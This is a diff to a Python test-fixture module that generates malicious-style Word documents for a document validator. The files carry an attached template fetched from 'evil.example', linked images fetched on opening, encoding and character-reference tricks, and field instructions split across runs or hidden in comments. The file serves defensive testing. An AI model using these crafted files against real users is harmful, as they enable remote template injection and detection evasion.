@@ -3,11 +3,14 @@
 from __future__ import annotations
 
 import io
+import re
 import zipfile
+from xml.sax.saxutils import escape
 
 from docx import Document
+from docx.shared import Mm
 
-from kaa_web.document_types import get_type
+from kaa_web.document_types import EXAMPLE_LOGO, get_type
 
 MACRO_CONTENT_TYPES = (
     '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
@@ -70,19 +73,87 @@ def with_entry(name: str) -> bytes:
     return out.getvalue()
 
 
-def with_external_relationship(kind: str = "attachedTemplate", target: str = "") -> bytes:
+def with_external_relationship(
+    kind: str = "attachedTemplate",
+    target: str = "",
+    *,
+    mode: str = "External",
+    encoding: str = "utf-8",
+    base: bytes | None = None,
+) -> bytes:
     """A document with one external relationship in its body: by default an attached template
-    fetched from a web server when the file opens; `kind="hyperlink"` is a clickable link."""
+    fetched from a web server when the file opens; `kind="hyperlink"` is a clickable link.
+    `mode` is written as given (e.g. a character reference), and the part in `encoding`."""
     target = target or "http://evil.example/t.dotm"
     external = (
         '<Relationship Id="rIdEvil" Type="http://schemas.openxmlformats.org/officeDocument/'
         f'2006/relationships/{kind}" Target="{target}" '
-        'TargetMode="External"/></Relationships>'
+        f'TargetMode="{mode}"/></Relationships>'
     )
 
     def change(name, content):
         if name == "word/_rels/document.xml.rels":
-            return content.replace(b"</Relationships>", external.encode())
+            text = content.decode().replace("</Relationships>", external)
+            text = re.sub(r"encoding=['\"]UTF-8['\"]", f'encoding="{encoding.upper()}"', text)
+            return text.encode(encoding)
         return content
 
-    return _rezip(template_with("brev_ungdom"), change)
+    return _rezip(base or template_with("brev_ungdom"), change)
+
+
+def with_linked_image(url: str) -> bytes:
+    """A document whose only picture is linked, not embedded: fetched from `url` on opening."""
+    document = Document()
+    document.add_picture(io.BytesIO(EXAMPLE_LOGO), width=Mm(20))
+    out = io.BytesIO()
+    document.save(out)
+
+    def change(name, content):
+        if name == "word/document.xml":
+            return re.sub(rb'r:embed="rId\d+"', b'r:link="rIdEvil"', content)
+        return content
+
+    return with_external_relationship("image", url, base=_rezip(out.getvalue(), change))
+
+
+def _field_runs(instruction: str, split: int) -> str:
+    """A complex field: begin, the instruction in runs of `split` characters, end."""
+    pieces = [instruction[i : i + split] for i in range(0, len(instruction), split)]
+    code = "".join(
+        f'<w:r><w:instrText xml:space="preserve">{escape(p)}</w:instrText></w:r>' for p in pieces
+    )
+    return (
+        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        + code
+        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>bild</w:t></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    )
+
+
+def with_field(
+    instruction: str, *, simple: bool = False, split: int = 1000, comment: bool = False
+) -> bytes:
+    """A good document with one more paragraph holding a field with this instruction: a simple
+    field (w:fldSimple), or a complex one whose instruction is split into runs; in the body,
+    or in a comment (a part docxtpl does not render)."""
+    if simple:
+        field = f'<w:fldSimple w:instr="{escape(instruction, {chr(34): "&quot;"})}">'
+        field += "<w:r><w:t>bild</w:t></w:r></w:fldSimple>"
+    else:
+        field = _field_runs(instruction, split)
+    document = Document(get_type("brev_ungdom").builtin_path)
+    paragraph = document.add_paragraph("Kommenterad text.")
+    if comment:
+        document.add_comment(paragraph.runs, text="En kommentar.", author="Mallförfattaren")
+    out = io.BytesIO()
+    document.save(out)
+    part = "word/comments.xml" if comment else "word/document.xml"
+    opening = rb"(<w:comment [^>]*>)" if comment else rb"(<w:body>)"
+
+    def change(name, content):
+        if name == part:
+            added = f"<w:p>{field}</w:p>".encode()
+            return re.sub(opening, lambda found: found.group(1) + added, content, count=1)
+        return content
+
+    return _rezip(out.getvalue(), change)
